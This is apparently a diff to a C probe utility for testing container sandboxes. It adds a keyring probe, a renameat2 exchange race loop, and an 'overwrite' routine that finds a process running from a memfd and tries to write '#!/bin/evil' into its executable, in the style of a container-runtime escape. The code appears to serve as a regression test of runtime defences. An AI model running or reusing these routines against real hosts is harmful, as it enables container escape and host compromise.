@@ -1,10 +1,17 @@
 /* SPDX-License-Identifier: MIT */
 
-/* usage: probe WORD: what the kernel says of this process, in one line. Linked statically. */
+/*
+ * usage: probe WORD: what the kernel says of this process, in one line
+ *        probe swap A B: exchange two names until killed
+ *        probe overwrite: write to the program that sets up other processes, once one is seen
+ * Linked statically, to run in any root file system.
+ */
+#include <dirent.h>
 #include <fcntl.h>
 #include <sched.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/personality.h>
 #include <sys/prctl.h>
@@ -129,6 +136,72 @@ static int probe_compat(void)
 	return (int)r == -38;
 }
 
+static int probe_keyring(void)
+{
+	printf("keyring %ld\n", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0));
+	return 0;
+}
+
+/* ---- attacks ------------------------------------------------------------ */
+
+static int swap(const char *a, const char *b)
+{
+	while (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+		;
+	perror("renameat2");
+	return 1;
+}
+
+/* A descriptor of the program that process @pid runs, if it comes out of nowhere. */
+static int program_of(const char *pid)
+{
+	char path[64], link[64] = "";
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return -1;
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	if (readlink(path, link, sizeof(link) - 1) > 0 && strncmp(link, "/memfd:", 7) == 0)
+		return fd;
+	close(fd);
+	return -1;
+}
+
+/* While it runs it is busy, whatever its seals say. */
+static int write_when_free(int fd)
+{
+	char path[64];
+	int to = -1;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 1000 && to < 0; i++) {
+		to = open(path, O_WRONLY | O_CLOEXEC);
+		usleep(1000);
+	}
+	return to >= 0 && write(to, "#!/bin/evil", 11) == 11 ? 0 : 1;
+}
+
+static int overwrite(void)
+{
+	for (;;) {
+		DIR *proc = opendir("/proc");
+		struct dirent *entry;
+
+		while (proc && (entry = readdir(proc))) {
+			int fd = atoi(entry->d_name) > 1 ? program_of(entry->d_name) : -1;
+
+			if (fd >= 0) {
+				printf("seen\n");
+				printf("%s\n", write_when_free(fd) == 0 ? "written" : "sealed");
+				return 0;
+			}
+		}
+		closedir(proc);
+	}
+}
+
 static const struct {
 	const char *word;
 	int (*run)(void);
@@ -137,7 +210,8 @@ static const struct {
 	{"personality", probe_personality}, {"slack", probe_slack},
 	{"filter", probe_filter},           {"oom", probe_oom},
 	{"memory", probe_memory},           {"cpus", probe_cpus},
-	{"compat", probe_compat},
+	{"compat", probe_compat},           {"keyring", probe_keyring},
+	{"overwrite", overwrite},
 };
 
 int main(int argc, char **argv)
@@ -145,6 +219,8 @@ int main(int argc, char **argv)
 	for (size_t i = 0; argc == 2 && i < sizeof(probes) / sizeof(*probes); i++)
 		if (strcmp(probes[i].word, argv[1]) == 0)
 			return probes[i].run();
-	fprintf(stderr, "usage: probe WORD\n");
+	if (argc == 4 && strcmp(argv[1], "swap") == 0)
+		return swap(argv[2], argv[3]);
+	fprintf(stderr, "usage: probe WORD | swap A B\n");
 	return 2;
 }
